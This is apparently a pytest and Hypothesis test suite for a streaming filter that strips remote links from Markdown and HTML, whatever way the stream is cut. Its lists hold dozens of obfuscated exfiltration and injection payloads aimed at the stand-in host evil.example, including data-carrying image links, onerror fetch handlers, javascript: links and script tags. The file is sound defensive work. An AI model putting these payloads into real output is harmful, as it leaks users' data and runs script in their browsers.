"""No form in which Markdown or HTML writes a remote address gets through, however the stream is cut, and plain text does not wait."""

import itertools
import re

import pytest
from gateway.links import HOLD, REMOVED, Links
from hypothesis import given, settings
from hypothesis import strategies as st

HOST = "evil.example"
ALLOWED = ("docs.example",)
# Each is a request, or a link one click away, in some reader of Markdown or HTML.
FORMS = [
    f"![a](http://{HOST}/?q=S)", f"![a]( http://{HOST}/?q=S )", f"![a](\thttps://{HOST}/S)", f"![a](\nhttps://{HOST}/S)",
    f"![a](<http://{HOST}/?q=S>)", f"![a](<http://{HOST}/?q=S T>)", f'![a](http://{HOST}/S "title")', f"![a](http://{HOST}/S 'it''s')",
    f"[a](http://{HOST}/S)", f"[![a](http://{HOST}/S)](http://{HOST}/T)", f"[a](HTTP://{HOST}/S)", f"[a](hTTps://{HOST}/S)",
    f"[a](//{HOST}/S)", f"[a](\\/\\/{HOST}/S)", f"[a](/\\{HOST}/S)", f"[a](\\\\{HOST}\\S)", f"[a](https:{HOST}/S)",
    f"[a](https:/{HOST}/S)",
    f"[a](https:\\\\{HOST}/S)", f"[a](http\\://{HOST}/S)", f"[a](&#104;ttp://{HOST}/S)", f"[a](&#x68;ttp&#58;//{HOST}/S)",
    f"[a](http&colon;//{HOST}/S)", f"[a](&sol;&sol;{HOST}/S)", f"[a](http:&#47;&#47;{HOST}/S)", f"[a](ht\u200btp://{HOST}/S)",
    f"!\u200b[a](http://{HOST}/S)", f"![a]\u200b(http://{HOST}/S)", f"![a](\u200bhttp://{HOST}/S)", f"![a](http://{HOST}/S",
    "[a](javascript:fetch('S'))", "[a](data:text/html,S)", "[a](mailto:x@evil.example?body=S)", "[a](file:///etc/S)",
    "[a](ftp://evil.example/S)",
    f"![a][r]\n\n[r]: http://{HOST}/S", f"![a][r]\n\n[r]: <http://{HOST}/S>", f"![a][r]\n\n[r]:http://{HOST}/S 'title'",
    f"![a][r]\n\n[r]:\n  http://{HOST}/S", f"![a][r]\n\n[r]: //{HOST}/S", f"![a]\n\n > [a]: https://{HOST}/S",
    f"<http://{HOST}/S>", f"<https:{HOST}/S>", "<mailto:x@evil.example?body=S>", f"http://{HOST}/S", f"see https://{HOST}/S.",
    f"(https://{HOST}/S)",
    f"HTTPS://{HOST}/S", f"**https://{HOST}/S**", f"`https://{HOST}/S`", f"www.{HOST}/S", f"WWW.{HOST}/S", f"x:www.{HOST}/S",
    f"ws://{HOST}/S",
    f"app://{HOST}/S", f"http&colon;//{HOST}/S", f"&#104;ttp://{HOST}/S", f"&#119;ww.{HOST}/S", f"https://me@{HOST}/S",
    f"https://docs.example@{HOST}/S",
f"https://docs.example\\@{HOST}/S", f"https://docs.example.{HOST}/S", f"https://x.docs.example.{HOST}/S",
    f'<img src="http://{HOST}/S">', f"<img src=http://{HOST}/S>", f"<img src='//{HOST}/S'>", f"<img src=//{HOST}/S>",
    f"<IMG SRC=//{HOST}/S>",
    f"<img/src=//{HOST}/S>", f"<img\nsrc=//{HOST}/S\n>", f"<img alt='>' src=//{HOST}/S>", f'<img alt=">" src=//{HOST}/S>',
    f"<img src=/\\{HOST}/S>",
    f"<img src=https:{HOST}/S>", f"<img src=\"ht\ntps://{HOST}/S\">", f"<img src=&#104;ttp://{HOST}/S>", f"<img src=&sol;&sol;{HOST}/S>",
    f"<img srcset='x.png 1x, //{HOST}/S 2x'>", f"<a href=http://{HOST}/S>x</a>", "<a href=javascript:S>x</a>",
    f"<p style=\"background:url(//{HOST}/S)\">",
    f"<video poster=//{HOST}/S>", f"<table background=//{HOST}/S>", f"<img src=x onerror=\"fetch('//{HOST}/S')\">",
    "<img src=x onerror=alert(S)>",
    f"<p style=\"background:url('&#47;&#47;{HOST}/S')\">", f"<a\thref=http://{HOST}/S>x",
    # what one reader takes for a tag, another for text; what is written over the lines of a quotation; Markdown's escapes in an address
    f"![a][r]\n\n> [r]:\n> //{HOST}/S", f"> ![a](\n> //{HOST}/S)", f"> > ![a](\n> > <//{HOST}/S>)",
    f"<i? style='background:url(//{HOST}/S)'>", f"<i, onclick=fetch('//{HOST}/S')>",
    f"<p style=\"b:\\75rl(\\68ttps\\3a\\2f {HOST}\\2fS)\">",
    f"<b www.{HOST}/S>", f'<b "> www.{HOST}/S ">', f"\\<b t='www.{HOST}/S'>", f"<b t='\n\n![a][r]\n\n[r]:https:{HOST}/S'>",
    f"<https:{HOST}/'S>", f"<!-- <img src=//{HOST}/S>", f"https:\\/\\/{HOST}/S", f"https:/\\/{HOST}/S", f"https\\://{HOST}/S",
    f"https:\u200b//{HOST}/S", f"www\\.{HOST}/S", f"www\u200b.{HOST}/S", f"www.-x.{HOST}/S", f"www.%65vil.example@{HOST}/S",
    f"[a](/\t/{HOST}/S)", f"![a] (//{HOST}/S)", f"[a]\t(data:S,{HOST})", f"xwww.{HOST}/S@", f"ſwww.{HOST}/S", f"<a f=&#x77;ww.{HOST}/a>",
    f"[a](http`:`//{HOST}/S)",
]  # fmt: skip
BROKEN = [  # what is left of them is no address and no tag
    f"https://docs.example'.{HOST}/S", f"<img src=//{HOST}/S", f"> <img\n> src=//{HOST}/S>", f"[a](/\n/{HOST}/S)",
    f"<p a\" c=\"d>\" style=\"background:url(//{HOST}/S)\">", f"<table a\" c=\"d>\" background=//{HOST}/S>",
    f"https://docs.example\xa0@{HOST}/S", f"http://<@{HOST}/S",
    f"www.<@{HOST}/S", f"https://docs.example<@{HOST}/S",
]  # fmt: skip
ACTIVE = [
    "<o <script>S</script>",
    "x <!-- <script>S</script>",
    '`x <b t="`<script>S</script>">',
    '<b t="\n<script>S</script>">',
    '<b "<script>">',
    "<script&#x77;ww.a><>",
    "<script>S</script>",
    "<style>b{background:url(//x)}</style>",
    "<iframe src=x>",
    "<svg>",
    "<base href=x>",
    "<meta a=b>",
    "<link a>",
]
PLAIN = [
    "a < b and c > d", "x[0] = y[1](2)", "if (a<b || c>d)", "<strong>hé</strong>", "l'été à Paris ½ & co.", "R&D, AT&T", "a: b",
    "[1] note [2]: see",
    "f[i](a, b)", "`a//b` // comment", "and/or", "List<String> x", "[text](#part)", "![p](image.png)", "<br/>", "12:30", "a::b", "www",
    "e.g. www or",
    "[ref]: note", "&lt;b&gt; &amp; &nbsp;", "{'a': [1, 2]}", "C:\\path\\x", "<p class=\"md:flex\" style=\"color:red\">",
    "std::vector<int>", "map<string, int> m", "for(i=0;i<n;i++) {", "a<b, c", "http://<host>:80/x", "www.", "(www.)",
    "c:\\/x", "<!-- note -->",
    "<p\n  class=\"a\" id=b>", "f[i](lambda x: y)", "[1] (see: note) [2] (a, b: c)", "[a](b 'title')", "<b>x</b> <hr />",
    "> quoted [a](b)\n> more",
]  # fmt: skip
KEPT = [
    "https://docs.example/a?b=c#d", "[a](https://docs.example/x)", "![a](http://docs.example/x.png 'title')", "<https://docs.example/>",
    "<img src=\"https://docs.example/a.png\">", "see https://docs.example.", "(https://docs.example)", "https://docs.example:8443/x",
]  # fmt: skip


def passed(parts: list[str]) -> str:
    links = Links(ALLOWED)
    return "".join([*(links.feed(part) for part in parts), links.flush()])


def remote(text: str) -> bool:
    """Whether an address, in any of the spellings above, is still in the text. Plain and blunt, unlike what is tested."""
    return re.search(r"evil\.example|javascript:|data:|file:|onerror", text.replace("\u200b", "")) is not None


@pytest.mark.parametrize("form", FORMS)
def test_no_remote_address_gets_through(form: str) -> None:
    out = passed([f"Here: {form} and more."])
    assert not remote(out), out
    assert REMOVED.strip() in out or "< " in out or "] " in out


@pytest.mark.parametrize("form", FORMS + BROKEN + ACTIVE + PLAIN + KEPT)
def test_every_cut_gives_the_same(form: str) -> None:
    text = f"A {form} b\nc"
    whole = passed([text])
    for cut in range(len(text) + 1):
        assert passed([text[:cut], text[cut:]]) == whole, cut
    assert passed(list(text)) == whole


@pytest.mark.parametrize("form", BROKEN)
def test_no_tag_and_no_scheme_is_left(form: str) -> None:
    assert re.search(r"<\w|:/", passed([f"Here: {form}"])) is None


@pytest.mark.parametrize("text", PLAIN + KEPT)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert passed([text]) == text


@pytest.mark.parametrize("form", ACTIVE)
def test_active_tags_become_text(form: str) -> None:
    assert re.search(r"<[a-z]", passed([form]).replace("</", "")) is None


@pytest.mark.parametrize(
    "text",
    [
        "Paris is the capital. ",
        "l'été, ",
        "ends with h",
        "a (b) c!",
        "« oui »: ",
        "**bold** _it_ `x` #1 ",
        "Now. Law/raw w.w. ww.",
    ],
)
def test_plain_text_does_not_wait(text: str) -> None:
    links = Links(ALLOWED)
    for character in text:
        assert links.feed(character) == character


PIECES = [
    "!", "[", "]", "(", ")", "<", ">", ":", "/", "//", "\\", "&", "&#58;", "&colon;", '"', "'", " ", "\n", "a", "http", "https:", "www",
    ".", "img src=",
    "<a href=", HOST, "docs.example", "\u200b", "]: ", "](", "x" * 30, "=",
]  # fmt: skip


@pytest.mark.lab
@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join), st.lists(st.integers(0, 300), max_size=6))
def test_any_text_and_any_cuts(text: str, cuts: list[int]) -> None:
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    parts = [text[start:end] for start, end in itertools.pairwise(places)]
    assert passed(parts) == passed([text])
    links, given_out, fed = Links(ALLOWED), 0, 0
    for part in parts:
        fed += len(part)
        given_out += len(links.feed(part))
        assert len(links._held) < HOLD


@pytest.mark.parametrize(
    "start", ["](", "]: ", "<img ", "<", "[a](<", "http://", "www.", "&#", "](" + "\u200b" * 5, "<!--", "x]("]
)
@pytest.mark.parametrize("filler", [" ", "a", "\u200b", "&", "'"])
def test_what_stays_open_is_broken_not_kept(start: str, filler: str) -> None:
    out = passed([start + filler * 600 + f"//{HOST}/S)>"])
    links = Links(ALLOWED)
    for character in start + filler * 600:
        links.feed(character)
        assert len(links._held) < HOLD
    assert not re.search(
        rf"\]\(\s*\S*//{re.escape(HOST)}|\]:\s*//{re.escape(HOST)}|<\w[^>]*{re.escape(HOST)}|://{re.escape(HOST)}", out
    )
